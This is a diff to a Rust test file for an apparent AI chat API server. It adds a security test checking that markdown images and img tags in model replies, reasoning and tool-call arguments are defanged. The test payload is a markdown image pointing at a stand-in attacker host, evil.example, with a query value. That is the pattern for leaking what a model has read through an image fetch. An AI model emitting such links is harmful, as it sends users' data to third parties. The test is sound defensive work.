@@ -10,7 +10,7 @@ use reqwest::StatusCode;
 use reqwest::header::{HOST, ORIGIN};
 use serde_json::{Value, json};
 
-use crate::api_kit::{ApiBench, answer, token};
+use crate::api_kit::{ApiBench, answer, events, token};
 
 /// Longer than anything here takes.
 const PATIENCE: Duration = Duration::from_secs(30);
@@ -338,6 +338,38 @@ async fn what_steers_a_terminal_or_turns_a_line_around_is_written_out() {
     let arguments = drafts["drafts"][0]["arguments"].as_str().unwrap();
     assert!(arguments.contains("a\\u202etxt.md"), "{arguments}");
     assert_eq!(serde_json::from_str::<Value>(arguments).unwrap()["path"], "a\u{202e}txt.md", "the same value");
+}
+
+/// A picture's address may say what was read, and is asked for as soon as somebody looks at it.
+// SEC-005
+#[tokio::test]
+async fn no_text_that_a_program_draws_holds_a_picture() {
+    let picture = "![P](http://evil.example/a.png?x=4711)";
+    let reply = format!(
+        "[[reply]]\nreasoning = [\"Look !\", \"[P](http://evil.example) <\", \"img src=x>\"]\ntext = \"{picture}\"\n\
+         calls = [{{ name = \"read_file\", arguments = {{ path = \"{picture}\" }} }}]\n\
+         [[reply]]\ntext = [\"And !\", \"[Q](http://evil.example) <\", \"b>\"]\n"
+    );
+    let bench = ApiBench::new(&(reply.clone() + &reply + &reply), "[tools]\ndefer = false\n").await;
+    let is_clean = |said: &str| !said.contains("![") && !said.contains("<img") && said.contains("! [P](http");
+    let (_, whole) = answer(bench.complete(&[("user", picture)], &json!({}))).await;
+    let message = &whole["choices"][0]["message"];
+    assert_eq!(message["reasoning_content"], "Look ! [P](http://evil.example) < img src=x>");
+    let text = "! [P](http://evil.example/a.png?x=4711)\n\nAnd ! [Q](http://evil.example) <b>";
+    assert_eq!(message["content"], text);
+    let said = bench.complete(&[("user", picture)], &json!({ "stream": true })).send().await.unwrap();
+    let said = said.text().await.unwrap();
+    assert!(is_clean(&said) && said.contains("reasoning_content"), "{said}");
+    let (_, taken) = bench.ask("/v1/conversations/new/messages", &json!({ "text": picture })).await;
+    let (id, after) = (taken["conversation"].as_str().unwrap(), taken["after"].as_str().unwrap());
+    let path = format!("/v1/conversations/{id}");
+    let told = events(bench.get(&format!("{path}/events?after={after}")), |event| event["type"] == "done").await;
+    let told = told.iter().map(|(_, event)| event.to_string()).collect::<String>();
+    assert!(is_clean(&told) && told.contains("\"reasoning\"") && told.contains("tool_done"), "{told}");
+    for path in [path.clone(), format!("{path}/messages"), "/v1/conversations".to_owned()] {
+        let said = bench.look(&path).await.1.to_string();
+        assert!(is_clean(&said), "{path}: {said}");
+    }
 }
 
 /// Apps put what was said before, pages and files into one message.
